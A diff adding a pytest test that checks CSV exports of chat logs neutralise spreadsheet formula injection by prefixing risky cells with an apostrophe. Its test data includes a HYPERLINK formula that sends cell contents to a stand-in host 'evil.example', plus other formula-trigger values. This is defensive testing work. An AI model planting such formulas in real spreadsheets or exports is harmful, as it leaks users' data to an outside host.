@@ -12,6 +12,7 @@ import pytest
 from exporters.formats.raw import COLUMNS
 from gateway.store.base import Store
 from tests.exporters.conftest import export
+from tests.exporters.seed import chat, seed
 
 FILES = {"csv": "interactions.csv", "jsonl": "interactions.jsonl"}
 PERSONAL = ("Kari", "Nordmann", "kari@example.no", "912 34 567", "Hansen")
@@ -106,3 +107,53 @@ async def test_an_empty_selection_still_writes_the_header(store: Store, tmp_path
     result = await export(store, tmp_path, "csv")
     path = result.files[FILES["csv"]]
     assert path.read_text(encoding="utf-8").strip() == ",".join(COLUMNS)
+
+
+# What a spreadsheet would run as a formula, in the columns a client or a reviewer writes.
+FORMULAS = {
+    "prompt": '=HYPERLINK("https://evil.example/?"&A1,"click")',
+    "answer": "@SUM(A1:A9)",
+    "feedback_correction": "+1+1",
+    "feedback_comment": "-2+3",
+}
+CONTROL = {"prompt": "\t=1+1", "answer": "\r=2"}
+
+
+async def test_csv_cells_cannot_start_a_formula(store: Store, tmp_path: Path) -> None:
+    ids = await seed(
+        store,
+        {
+            "formulas": (
+                {
+                    "tags": {"@cmd": "1"},
+                    "exchange": chat(FORMULAS["prompt"], FORMULAS["answer"]),
+                },
+                [
+                    {
+                        "correction": FORMULAS["feedback_correction"],
+                        "comment": FORMULAS["feedback_comment"],
+                    }
+                ],
+            ),
+            "control": ({"exchange": chat(CONTROL["prompt"], CONTROL["answer"])}, []),
+            "plain": ({"exchange": chat("Neck pain?", "Rest, then move.")}, []),
+        },
+    )
+    csv_rows = read_rows((await export(store, tmp_path / "c", "csv")).files[FILES["csv"]])
+    rows = {row["id"]: row for row in csv_rows}
+    for column, value in FORMULAS.items():
+        assert rows[ids["formulas"]][column] == "'" + value
+    for column, value in CONTROL.items():
+        assert rows[ids["control"]][column] == "'" + value
+    plain = rows[ids["plain"]]
+    assert (plain["prompt"], plain["answer"]) == ("Neck pain?", "Rest, then move.")
+    assert plain["cost_usd"] == "0.0001"
+    # The JSON lines keep the text as it was: only a spreadsheet runs formulas.
+    jsonl = (await export(store, tmp_path / "j", "jsonl")).files[FILES["jsonl"]]
+    as_json = {row["id"]: row for row in read_rows(jsonl)}
+    assert as_json[ids["formulas"]]["prompt"] == FORMULAS["prompt"]
+    # Analytics keys are client text too: tags here.
+    analytics = (await export(store, tmp_path / "a", "analytics")).files["analytics.csv"]
+    with open(analytics, newline="", encoding="utf-8") as file:
+        keys = {row["key"] for row in csv.DictReader(file) if row["section"] == "tag"}
+    assert keys == {"'@cmd=1"}
